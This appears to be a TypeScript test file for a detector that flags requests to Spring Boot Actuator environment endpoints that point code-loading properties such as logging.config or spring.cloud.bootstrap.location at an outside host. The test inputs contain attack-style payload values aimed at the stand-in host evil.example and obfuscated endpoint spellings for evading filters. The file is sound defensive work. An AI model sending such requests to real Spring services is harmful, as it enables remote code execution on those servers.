import { describe, expect, test } from "bun:test";
import { springEnvOverride } from "../../../src/detect/analyzers/spring-env.ts";
import { decompose } from "../../../src/decompose/index.ts";
import { request } from "../../decompose/fixtures.ts";

const overrides = (target: string, body: string, type = "application/json") => {
  const req = request([`POST ${target} HTTP/1.1`, "Host: a", `Content-Type: ${type}`, `Content-Length: ${body.length}`], body);
  const { leaves } = decompose(req);
  return springEnvOverride(req, leaves).map(({ at, finding }) => [leaves[at]!.name, finding.rule, finding.strength, leaves[at]!.text.slice(finding.start, finding.end)]);
};
const pair = (name: string, value: string) => JSON.stringify({ name, value });

describe("spring-env: a property that loads code, set to another host through the environment endpoint", () => {
  test("as a JSON name-value pair or a form field, in any of Spring's spellings, at any spelling of the endpoint", () => {
    expect(overrides("/actuator/env", pair("spring.cloud.bootstrap.location", "http://evil.example/payload.yml"))).toEqual([["spring.cloud.bootstrap.location", "spring.remote-loader", 0.9, "http://evil.example/payload.yml"]]);
    expect(overrides("/env", "logging.config=http://evil.example/logback.xml", "application/x-www-form-urlencoded")).toEqual([["logging.config", "spring.remote-loader", 0.9, "http://evil.example/logback.xml"]]);
    for (const [name, value] of [
      ["SPRING_MAIN_SOURCES", "http://evil.example/x.groovy"],
      ["eureka.client.service-url[defaultZone]", "http://evil.example/xstream"],
      ["eureka.client.serviceUrl.zone1", "http://evil.example/xstream"],
      ["spring.config.import", "optional:configserver:http://evil.example:8888"],
      ["spring.config.location", "classpath:/,https://evil.example/x.yml"],
    ]) {
      expect([name, overrides("/manage/actuator/env", pair(name!, value!)).length]).toEqual([name, 1]);
    }
    for (const target of ["/actuator/env;jsessionid=1", "/actuator/%65nv", "/env.json", "/actuator/bus-env", "/actuator/env/"]) {
      expect([target, overrides(target, pair("logging.config", "http://evil.example/l.xml")).length]).toEqual([target, 1]);
    }
  });

  test("not a platform's environment variables, nor the operator's own servers, a local file or another property", () => {
    for (const target of ["/api/v1/apps/shop/env", "/api/projects/42/env", "/api/deployments"]) {
      expect([target, overrides(target, pair("EUREKA_CLIENT_SERVICEURL_DEFAULTZONE", "http://eureka.example.com/eureka/"))]).toEqual([target, []]);
    }
    for (const value of ["http://eureka-peer1:8761/eureka/,http://eureka-peer2:8761/eureka/", "http://10.0.1.15:8761/eureka/", "optional:configserver:http://config-server:8888", "classpath:logback-spring.xml"]) {
      expect([value, overrides("/actuator/env", pair("eureka.client.serviceUrl.defaultZone", value))]).toEqual([value, []]);
    }
    expect(overrides("/actuator/env", pair("spring.application.name", "http://evil.example/payload.yml"))).toEqual([]);
  });
});
